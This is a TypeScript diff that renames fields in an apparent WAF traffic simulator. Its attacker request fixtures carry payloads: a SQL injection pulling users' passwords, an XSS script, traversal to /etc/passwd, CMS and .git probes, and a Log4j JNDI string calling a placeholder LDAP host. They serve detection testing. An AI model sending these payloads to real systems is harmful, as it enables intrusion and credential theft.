@@ -11,13 +11,13 @@ export type RequestClient = {
 };
 
 /** The managed rules that a request trips, by id. */
-export type Trips = {
+export type TrippedRules = {
 	/** Rules with their own action; they have the same ids in the previous and the new version. */
 	readonly rules?: readonly string[];
 	/** Rules of the previous OWASP package; each scores 20 points. */
-	readonly previousScores?: readonly string[];
+	readonly previousScoringRules?: readonly string[];
 	/** Rules of the new OWASP ruleset; each scores 5 points. */
-	readonly scores?: readonly string[];
+	readonly scoringRules?: readonly string[];
 };
 
 export type RequestKind = {
@@ -36,7 +36,7 @@ export type RequestKind = {
 	/** The path of the referring page. */
 	readonly referer?: string;
 	readonly isUnencrypted?: true;
-	readonly trips?: Trips;
+	readonly trippedRules?: TrippedRules;
 };
 
 export const pathWords = ['lamp', 'kettle', 'tent', 'guitar', 'desk', 'rucksack', 'novel', 'spade'] as const;
@@ -103,10 +103,10 @@ function listScoringRules(kind: string, count: number): readonly string[] {
 	});
 }
 
-const sqlInjection: Trips = {
+const sqlInjection: TrippedRules = {
 	rules: [deriveRuleId('Platform Specials', 2)],
-	previousScores: ['981231', '981232', '981301'],
-	scores: listScoringRules('sqli', 24),
+	previousScoringRules: ['981231', '981232', '981301'],
+	scoringRules: listScoringRules('sqli', 24),
 };
 const log4j = deriveId('managed rule Apache Log4j Remote Code Execution (Header)');
 
@@ -126,7 +126,7 @@ export const requestKinds: readonly RequestKind[] = [
 		clientGroup: 'attackers',
 		path: '/products',
 		query: 'id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--',
-		trips: sqlInjection,
+		trippedRules: sqlInjection,
 	},
 	{share: 40, clientGroup: 'visitors', path: '/'},
 	{share: 60, clientGroup: 'visitors', path: '/products/*', referer: '/'},
@@ -151,7 +151,7 @@ export const requestKinds: readonly RequestKind[] = [
 		method: 'POST',
 		path: falsePositive.path,
 		referer: '/admin/import',
-		trips: {rules: [falsePositive.rule], scores: listScoringRules('rce', 2)},
+		trippedRules: {rules: [falsePositive.rule], scoringRules: listScoringRules('rce', 2)},
 	},
 	{
 		share: 0,
@@ -159,7 +159,7 @@ export const requestKinds: readonly RequestKind[] = [
 		clientGroup: 'partners',
 		method: 'POST',
 		path: '/partner/orders',
-		trips: {previousScores: ['960008', '960911', '960912']},
+		trippedRules: {previousScoringRules: ['960008', '960911', '960912']},
 	},
 	{share: 1, clientGroup: 'partners', method: 'DELETE', subdomain: 'api', path: '/api/v1/orders/*'},
 	{share: 1, clientGroup: 'partners', path: '/api/v1/export/2026001'},
@@ -168,10 +168,10 @@ export const requestKinds: readonly RequestKind[] = [
 		clientGroup: 'attackers',
 		path: '/search',
 		query: 'q=%3Cscript%3Ealert(1)%3C/script%3E',
-		trips: {
+		trippedRules: {
 			rules: [deriveRuleId('Platform Specials', 7)],
-			previousScores: ['973400', '973301', '973402'],
-			scores: listScoringRules('xss', 14),
+			previousScoringRules: ['973400', '973301', '973402'],
+			scoringRules: listScoringRules('xss', 14),
 		},
 	},
 	{
@@ -179,21 +179,21 @@ export const requestKinds: readonly RequestKind[] = [
 		clientGroup: 'attackers',
 		path: '/download',
 		query: 'file=../../../../etc/passwd',
-		trips: {rules: [deriveRuleId('Platform Specials', 32)], scores: listScoringRules('lfi', 5)},
+		trippedRules: {rules: [deriveRuleId('Platform Specials', 32)], scoringRules: listScoringRules('lfi', 5)},
 	},
 	{
 		share: 2,
 		clientGroup: 'attackers',
 		path: '/wp-admin/admin-ajax.php',
 		method: 'POST',
-		trips: {rules: [deriveRuleId('Platform WordPress', 34)]},
+		trippedRules: {rules: [deriveRuleId('Platform WordPress', 34)]},
 	},
 	{
 		share: 1,
 		clientGroup: 'attackers',
 		path: '/wp-content/plugins/upload.php',
 		method: 'POST',
-		trips: {rules: [deriveRuleId('Platform WordPress', 3)]},
+		trippedRules: {rules: [deriveRuleId('Platform WordPress', 3)]},
 	},
 	{share: 1, clientGroup: 'attackers', path: '/wp-login.php', method: 'POST'},
 	{share: 1, clientGroup: 'attackers', path: '/xmlrpc.php', method: 'POST'},
@@ -202,27 +202,30 @@ export const requestKinds: readonly RequestKind[] = [
 		clientGroup: 'attackers',
 		path: '/index.php',
 		query: 'GLOBALS[x]=1',
-		trips: {rules: [deriveRuleId('Platform PHP', 2)]},
+		trippedRules: {rules: [deriveRuleId('Platform PHP', 2)]},
 	},
 	{
 		share: 1,
 		clientGroup: 'attackers',
 		path: '/user/register',
 		method: 'POST',
-		trips: {rules: [deriveRuleId('Platform Drupal', 10)]},
+		trippedRules: {rules: [deriveRuleId('Platform Drupal', 10)]},
 	},
 	{
 		share: 2,
 		clientGroup: 'attackers',
 		path: '/.git/config',
-		trips: {rules: [deriveRuleId('Requested Bots', 2)], previousScores: ['990002', '990003', '990004']},
+		trippedRules: {
+			rules: [deriveRuleId('Requested Bots', 2)],
+			previousScoringRules: ['990002', '990003', '990004'],
+		},
 	},
 	{
 		share: 2,
 		clientGroup: 'attackers',
 		path: '/',
 		agent: '$\u007bjndi:ldap://198.51.100.222/a}',
-		trips: {rules: [log4j]},
+		trippedRules: {rules: [log4j]},
 	},
 	{share: 1, clientGroup: 'attackers', path: '/admin'},
 ];
